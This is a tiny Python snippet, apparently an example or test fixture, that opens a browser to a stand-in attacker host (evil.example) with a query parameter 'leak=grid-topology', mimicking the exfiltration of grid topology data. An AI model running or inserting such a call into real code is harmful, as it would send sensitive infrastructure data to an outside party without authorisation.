import webbrowser

webbrowser.open("http://evil.example/?leak=" + "grid-topology")
